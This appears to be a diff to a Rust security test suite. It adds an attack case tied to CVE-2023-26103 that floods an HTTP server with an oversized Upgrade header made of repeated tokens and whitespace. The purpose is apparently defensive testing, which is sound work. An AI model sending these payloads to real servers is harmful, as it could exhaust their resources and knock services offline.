@@ -119,6 +119,16 @@ pub(super) const ATTACKS: &[Attack] = &[
         },
     ),
     acts(
+        "upgrade-list",
+        "CVE-2023-26103",
+        "7 KiB of tokens and blanks for Upgrade, 20 times",
+        AN_ANSWER,
+        |target| {
+            let value = format!("{}{}, websocket", "x, ".repeat(LONG / 6), "\t ".repeat(LONG / 4));
+            with_header(target, "Upgrade", value)
+        },
+    ),
+    acts(
         "extension-names",
         "GHSA-5v72-xg48-5rpm",
         "extensions named as members of objects, and twice",
